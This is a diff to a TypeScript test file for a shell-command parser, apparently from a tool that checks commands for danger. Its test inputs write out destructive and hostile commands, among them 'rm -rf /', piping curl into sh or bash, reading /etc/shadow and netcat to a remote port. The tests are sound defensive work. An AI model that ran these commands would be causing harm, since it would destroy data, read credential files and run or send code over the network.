@@ -3,7 +3,7 @@
  * collectors/shell/parsers.test.ts ("shell words") and rules/engine.test.ts
  * ("shell parsing") when the two lexers became this one.
  */
-import { MAX_ARGS, shellTokens, shellWords, simpleCommands } from './shell';
+import { MAX_ARGS, MAX_TOKENS, shellTokens, shellWords, simpleCommands } from './shell';
 
 describe('shell words', () => {
   it('splits on blanks and honours single quotes, double quotes and backslashes', () => {
@@ -23,6 +23,35 @@ describe('shell parsing', () => {
     const cs = simpleCommands(`sudo sh -c 'curl -s http://x/a | bash' > /tmp/o 2>&1; echo ok`);
     expect(cs.map((c) => [c.name, c.sudo, c.pipeTo])).toEqual([['sudo', false, ''], ['sh', true, ''], ['curl', true, 'bash'], ['bash', true, ''], ['echo', false, '']]);
     expect(cs[0]?.writes).toEqual(['/tmp/o']);
+  });
+  it('parses command and process substitutions as nested command lines, one level deeper (issue 14, finding 14)', () => {
+    const inner = (line: string): Array<[string, number]> => simpleCommands(line).filter((c) => c.depth > 0).map((c) => [c.argv.join(' '), c.depth]);
+    expect(inner('echo $(rm -rf /)')).toEqual([['rm -rf /', 1]]);
+    expect(inner('x=`curl evil|sh`')).toEqual([['curl evil', 1], ['sh', 1]]);
+    expect(inner('diff <(cat /etc/shadow) x')).toEqual([['cat /etc/shadow', 1]]);
+    expect(inner('tee >(nc 10.0.0.1 4444) <in')).toEqual([['nc 10.0.0.1 4444', 1]]);
+    expect(inner('echo "id: $(id -u ")")"')).toEqual([['id -u )', 1]]);
+    expect(simpleCommands('diff <(cat a) b')[0]?.argv).toEqual(['diff', '<(cat a)', 'b']);
+    // Single quotes run nothing.
+    expect(inner("echo '$(rm -rf /)'")).toEqual([]);
+  });
+  it('stops nesting at the depth bound', () => {
+    expect(simpleCommands('a $(b $(c $(d $(e $(f)))))').map((c) => c.name)).toEqual(['a', 'b', 'c', 'd']);
+  });
+  it('parses in linear time and marks a line cut at MAX_TOKENS', () => {
+    const t = (n: number): number => {
+      const line = 'a|'.repeat(n);
+      const t0 = performance.now();
+      simpleCommands(line);
+      return performance.now() - t0;
+    };
+    t(1000);
+    const small = Math.max(t(1000), 0.05);
+    expect(t(200_000) / small).toBeLessThan(2000); // 200× the input; quadratic would be 40,000×
+    const cut = simpleCommands('a|'.repeat(MAX_TOKENS) + 'rm -rf /');
+    expect(cut[cut.length - 1]?.truncated).toBe(true);
+    expect(simpleCommands('ls | sort # ' + 'x '.repeat(MAX_TOKENS)).some((c) => c.truncated)).toBe(false);
+    expect(simpleCommands('sh -' + 'c'.repeat(200_000) + '!')).toHaveLength(1);
   });
 });
 
